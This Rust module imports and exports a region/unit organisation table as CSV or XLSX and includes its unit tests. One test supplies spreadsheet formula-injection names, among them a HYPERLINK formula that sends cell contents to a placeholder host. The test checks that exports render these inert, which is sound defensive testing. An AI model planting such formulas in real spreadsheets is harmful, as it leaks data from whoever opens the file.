//! The organisation import/export format: one table of regions and units.
//!
//! | 类别 | 代码 | 名称 | 简称 | 类型 | 上级代码 |
//! | --- | --- | --- | --- | --- | --- |
//! | 区域 | 991000 | 青川市 | | 市 | |
//! | 区域 | 991002 | 青川市东湖区 | | 县区 | 991000 |
//! | 单位 | 99100001 | 青川市科学技术和工业信息化局 | 市科工局 | 政府工作部门 | 991000 |
//!
//! For a 区域, 类型 is its level (省/市/县区/乡镇) and 上级代码 the parent region's code (empty
//! for a root); for a 单位, 类型 is its kind (政府工作部门/人民政府/乡镇街道/依法治X办/司法局)
//! and 上级代码 the code of the region it belongs to. Columns are found by name in any order;
//! 简称 may be left out.

use crate::{Row, Table};
use fazhi_domain::org::{OrgRow, Region, RegionCode, RowError, Unit};
use fazhi_domain::{RegionId, RegionLevel, UnitKind};
use std::collections::HashMap;

/// The columns of the format, in the order exports write them.
pub const ORG_HEADERS: [&str; 6] = ["类别", "代码", "名称", "简称", "类型", "上级代码"];

/// Columns an import must have (简称 may be missing).
const REQUIRED: [&str; 5] = ["类别", "代码", "名称", "类型", "上级代码"];

pub const KIND_REGION: &str = "区域";
pub const KIND_UNIT: &str = "单位";

/// Reads rows (as [`crate::read`] returns them, header first) into typed organisation rows
/// with their line numbers, or every bad row with a Chinese reason. Nothing is half-read:
/// one bad row and the whole file is refused, so the person fixes all at once.
///
/// Checks here are those the file alone can answer (a missing column, an unknown 类别 or
/// 类型, an empty 代码 or 名称, a code twice in the file, a region that is its own parent);
/// whether a parent code exists is the store's question at import time.
pub fn parse_org(rows: Vec<Row>) -> Result<Vec<(usize, OrgRow)>, Vec<RowError>> {
    let Some(table) = Table::from_rows(rows) else {
        return Err(vec![RowError {
            line: 1,
            message: format!("文件中没有数据。第一行应为表头：{}", ORG_HEADERS.join("、")),
        }]);
    };
    let cols = table.columns(&REQUIRED).map_err(|missing| {
        vec![RowError {
            line: table.header.line,
            message: format!(
                "表头缺少列：{}（需要的列：{}，列的顺序不限）",
                missing.join("、"),
                ORG_HEADERS.join("、")
            ),
        }]
    })?;
    let short_col = table.column("简称");
    let (kind_c, code_c, name_c, type_c, parent_c) = (cols[0], cols[1], cols[2], cols[3], cols[4]);

    let mut out = Vec::with_capacity(table.rows.len());
    let mut errors = Vec::new();
    let mut first_line_of: HashMap<String, usize> = HashMap::new();
    for row in &table.rows {
        let cell = |c: usize| clean(row.get(c));
        let (kind, code, name, typ, parent) = (
            cell(kind_c),
            cell(code_c),
            cell(name_c),
            cell(type_c),
            cell(parent_c),
        );
        let short = short_col.map(&cell).unwrap_or_default();
        let mut problems: Vec<String> = Vec::new();
        if code.is_empty() {
            problems.push("代码为空".to_string());
        } else if let Err(p) = RegionCode::parse(&code) {
            // Regions and units share the one rule for codes.
            problems.push(p.message("代码"));
        } else if let Some(first) = first_line_of.get(&code) {
            problems.push(format!("代码“{code}”与第 {first} 行重复"));
        } else {
            first_line_of.insert(code.clone(), row.line);
        }
        if name.is_empty() {
            problems.push("名称为空".to_string());
        }
        let parsed = match kind.as_str() {
            KIND_REGION => {
                let level = RegionLevel::parse(&typ);
                if level.is_none() {
                    problems.push(type_problem(&typ, "区域", "省、市、县区、乡镇"));
                }
                if !parent.is_empty() && parent == code {
                    problems.push("上级代码不能是本区域自己的代码".to_string());
                }
                level.map(|level| OrgRow::Region {
                    code: code.clone(),
                    name: name.clone(),
                    level,
                    parent_code: (!parent.is_empty()).then(|| parent.clone()),
                })
            }
            KIND_UNIT => {
                let kind = UnitKind::parse(&typ);
                if kind.is_none() {
                    problems.push(type_problem(
                        &typ,
                        "单位",
                        "政府工作部门、人民政府、乡镇街道、依法治X办/司法局",
                    ));
                }
                if parent.is_empty() {
                    problems.push("单位的上级代码（所属区域的代码）为空".to_string());
                }
                kind.map(|kind| OrgRow::Unit {
                    code: code.clone(),
                    name: name.clone(),
                    short_name: short.clone(),
                    kind,
                    region_code: parent.clone(),
                })
            }
            "" => {
                problems.push("类别为空，应为“区域”或“单位”".to_string());
                None
            }
            other => {
                problems.push(format!("类别“{other}”无效，应为“区域”或“单位”"));
                None
            }
        };
        match parsed {
            Some(r) if problems.is_empty() => out.push((row.line, r)),
            _ => errors.push(RowError {
                line: row.line,
                message: problems.join("；"),
            }),
        }
    }
    if table.rows.is_empty() {
        errors.push(RowError {
            line: table.header.line,
            message: "表头下没有任何数据行".to_string(),
        });
    }
    if errors.is_empty() {
        Ok(out)
    } else {
        Err(errors)
    }
}

fn type_problem(typ: &str, what: &str, valid: &str) -> String {
    if typ.is_empty() {
        format!("类型为空，{what}的类型应为：{valid}")
    } else {
        format!("{what}类型“{typ}”无效，应为：{valid}")
    }
}

/// A cell as compared: trimmed, including full-width spaces.
fn clean(s: &str) -> String {
    s.trim().to_string()
}

/// The data rows of an export, in [`ORG_HEADERS`] order: regions as given (parents before
/// children, as `OrgStore::regions` orders them), then units. Reading the result back with
/// [`parse_org`] gives rows that recreate the same tree.
pub fn org_rows(regions: &[Region], units: &[Unit]) -> Vec<Vec<String>> {
    let code_of: HashMap<RegionId, &str> =
        regions.iter().map(|r| (r.id, r.code.as_str())).collect();
    let code = |id: Option<RegionId>| {
        id.and_then(|id| code_of.get(&id))
            .map_or(String::new(), |c| c.to_string())
    };
    let mut out = Vec::with_capacity(regions.len() + units.len());
    for r in regions {
        out.push(vec![
            KIND_REGION.to_string(),
            r.code.clone(),
            r.name.clone(),
            String::new(),
            r.level.label().to_string(),
            code(r.parent_id),
        ]);
    }
    for u in units {
        out.push(vec![
            KIND_UNIT.to_string(),
            u.code.clone(),
            u.name.clone(),
            u.short_name.clone(),
            u.kind.label().to_string(),
            code(Some(u.region_id)),
        ]);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{read_csv, read_xlsx, write_csv, write_xlsx, Limits};
    use fazhi_domain::{RegionId, UnitId};

    fn rows(text: &str) -> Vec<Row> {
        read_csv(text.as_bytes(), &Limits::default()).unwrap()
    }

    fn tree() -> (Vec<Region>, Vec<Unit>) {
        let region =
            |id, parent: Option<i64>, code: &str, name: &str, level, path: Vec<i64>| Region {
                id: RegionId(id),
                parent_id: parent.map(RegionId),
                code: code.into(),
                name: name.into(),
                level,
                path: path.into_iter().map(RegionId).collect(),
            };
        let regions = vec![
            region(1, None, "991000", "青川市", RegionLevel::City, vec![1]),
            region(
                2,
                Some(1),
                "991002",
                "青川市东湖区",
                RegionLevel::County,
                vec![1, 2],
            ),
            region(
                3,
                Some(2),
                "991002001",
                "东湖区清溪街道",
                RegionLevel::Township,
                vec![1, 2, 3],
            ),
        ];
        let unit =
            |id, region_id, code: &str, name: &str, short: &str, kind, path: Vec<i64>| Unit {
                id: UnitId(id),
                region_id: RegionId(region_id),
                code: code.into(),
                name: name.into(),
                short_name: short.into(),
                kind,
                region_path: path.into_iter().map(RegionId).collect(),
            };
        let units = vec![
            unit(
                10,
                1,
                "99100001",
                "青川市科学技术和工业信息化局",
                "市科工局",
                UnitKind::Department,
                vec![1],
            ),
            unit(
                11,
                1,
                "99100002",
                "青川市司法局",
                "",
                UnitKind::Supervising,
                vec![1],
            ),
            unit(
                12,
                2,
                "99100201",
                "青川市东湖区人民政府",
                "东湖区政府",
                UnitKind::Government,
                vec![1, 2],
            ),
            unit(
                13,
                3,
                "99100200101",
                "东湖区清溪街道办事处",
                "",
                UnitKind::Township,
                vec![1, 2, 3],
            ),
        ];
        (regions, units)
    }

    fn expected_rows() -> Vec<OrgRow> {
        let (regions, units) = tree();
        let mut out = Vec::new();
        for r in &regions {
            out.push(OrgRow::Region {
                code: r.code.clone(),
                name: r.name.clone(),
                level: r.level,
                parent_code: r
                    .parent_id
                    .map(|p| regions.iter().find(|x| x.id == p).unwrap().code.clone()),
            });
        }
        for u in &units {
            out.push(OrgRow::Unit {
                code: u.code.clone(),
                name: u.name.clone(),
                short_name: u.short_name.clone(),
                kind: u.kind,
                region_code: regions
                    .iter()
                    .find(|x| x.id == u.region_id)
                    .unwrap()
                    .code
                    .clone(),
            });
        }
        out
    }

    #[test]
    fn export_then_import_round_trips_through_csv_and_xlsx() {
        let (regions, units) = tree();
        let data = org_rows(&regions, &units);
        let csv = write_csv(&ORG_HEADERS, &data);
        let from_csv = parse_org(read_csv(&csv, &Limits::default()).unwrap()).unwrap();
        let xlsx = write_xlsx("机构", &ORG_HEADERS, &data).unwrap();
        let from_xlsx = parse_org(read_xlsx(&xlsx, None, &Limits::default()).unwrap()).unwrap();
        let expected = expected_rows();
        for parsed in [&from_csv, &from_xlsx] {
            let got: Vec<OrgRow> = parsed.iter().map(|(_, r)| r.clone()).collect();
            assert_eq!(got, expected);
            let lines: Vec<usize> = parsed.iter().map(|(l, _)| *l).collect();
            assert_eq!(lines, (2..2 + expected.len()).collect::<Vec<_>>());
        }
    }

    #[test]
    fn an_export_of_formula_names_is_inert_and_imports_back() {
        let (mut regions, mut units) = tree();
        // Names and codes as a careless (or hostile) administrator may have typed them.
        regions[0].name = "=1+1".into();
        regions[1].name = "=HYPERLINK(\"http://x/?\"&A2,\"点击\")".into();
        regions[2].code = "-991002001".into();
        units[0].name = "@SUM(A1)".into();
        units[0].short_name = "+1".into();
        units[1].name = "'=1".into();
        units[2].short_name = "-1".into();
        units[3].code = "+99100200101".into();
        let data = org_rows(&regions, &units);
        let csv = write_csv(&ORG_HEADERS, &data);
        let xlsx = write_xlsx("机构", &ORG_HEADERS, &data).unwrap();
        assert_eq!(
            crate::formula_cells(&csv, crate::Format::Csv),
            Vec::<String>::new()
        );
        assert_eq!(
            crate::formula_cells(&xlsx, crate::Format::Xlsx),
            Vec::<String>::new()
        );
        // Not one field of the CSV, as a spreadsheet parses it, starts a formula.
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&csv[3..]);
        for field in reader
            .records()
            .flat_map(|r| r.unwrap().into_iter().map(String::from).collect::<Vec<_>>())
        {
            assert!(!crate::is_formula_like(&field), "{field:?}");
        }
        let from_csv = parse_org(read_csv(&csv, &Limits::default()).unwrap()).unwrap();
        let from_xlsx = parse_org(read_xlsx(&xlsx, None, &Limits::default()).unwrap()).unwrap();
        for parsed in [from_csv, from_xlsx] {
            let names: Vec<(String, String)> = parsed
                .iter()
                .map(|(_, r)| match r {
                    OrgRow::Region { code, name, .. } => (code.clone(), name.clone()),
                    OrgRow::Unit {
                        code,
                        name,
                        short_name,
                        ..
                    } => (code.clone(), format!("{name}|{short_name}")),
                })
                .collect();
            assert_eq!(names[0], ("991000".into(), "=1+1".into()));
            assert_eq!(names[2], ("-991002001".into(), "东湖区清溪街道".into()));
            assert_eq!(names[3].1, "@SUM(A1)|+1");
            assert_eq!(names[4].1, "'=1|");
            assert_eq!(
                names[6],
                ("+99100200101".into(), "东湖区清溪街道办事处|".into())
            );
            assert_eq!(names[1].1, "=HYPERLINK(\"http://x/?\"&A2,\"点击\")");
        }
    }

    #[test]
    fn columns_by_name_in_any_order_and_short_name_optional() {
        let parsed = parse_org(rows(
            " 上级代码 ,名 称,类型,代码,类别,备注\n,青川市,市,991000,区域,随便写\n991000,青川市司法局,司法局,99100002,单位,\n",
        ))
        .unwrap();
        assert_eq!(
            parsed,
            vec![
                (
                    2,
                    OrgRow::Region {
                        code: "991000".into(),
                        name: "青川市".into(),
                        level: RegionLevel::City,
                        parent_code: None
                    }
                ),
                (
                    3,
                    OrgRow::Unit {
                        code: "99100002".into(),
                        name: "青川市司法局".into(),
                        short_name: String::new(),
                        kind: UnitKind::Supervising,
                        region_code: "991000".into()
                    }
                ),
            ]
        );
    }

    #[test]
    fn every_bad_row_is_reported() {
        let text = "类别,代码,名称,简称,类型,上级代码\n\
                    区域,991000,青川市,,市,\n\
                    部门,1,甲,,政府工作部门,991000\n\
                    区域,,乙,,县区,991000\n\
                    区域,991002,,,地区,991000\n\
                    单位,99100001,青川市教育局,,委员会,\n\
                    单位,991000,青川市重名,,政府工作部门,991000\n\
                    区域,991003,自指区,,县区,991003\n\
                    ,991004,丙,,县区,991000\n\
                    单位,99100002,青川市财政局,市财政局,政府工作部门,991000\n";
        let errors = parse_org(rows(text)).unwrap_err();
        let by_line: Vec<(usize, &str)> = errors
            .iter()
            .map(|e| (e.line, e.message.as_str()))
            .collect();
        assert_eq!(by_line.len(), 7, "{by_line:#?}");
        assert_eq!(by_line[0], (3, "类别“部门”无效，应为“区域”或“单位”"));
        assert_eq!(by_line[1], (4, "代码为空"));
        assert!(by_line[2].1.contains("名称为空") && by_line[2].1.contains("区域类型“地区”无效"));
        assert!(by_line[3].1.contains("单位类型“委员会”无效") && by_line[3].1.contains("上级代码"));
        assert_eq!(by_line[4], (7, "代码“991000”与第 2 行重复"));
        assert_eq!(by_line[5], (8, "上级代码不能是本区域自己的代码"));
        assert_eq!(by_line[6], (9, "类别为空，应为“区域”或“单位”"));
    }

    #[test]
    fn header_problems() {
        let e = parse_org(rows("类别,代码,名字\n区域,1,甲\n")).unwrap_err();
        assert_eq!(e.len(), 1);
        assert_eq!(e[0].line, 1);
        assert!(
            e[0].message.contains("表头缺少列：名称、类型、上级代码"),
            "{}",
            e[0].message
        );
        let e = parse_org(Vec::new()).unwrap_err();
        assert!(e[0].message.contains("没有数据"));
        let e = parse_org(rows("类别,代码,名称,简称,类型,上级代码\n")).unwrap_err();
        assert!(e[0].message.contains("没有任何数据行"));
    }
}
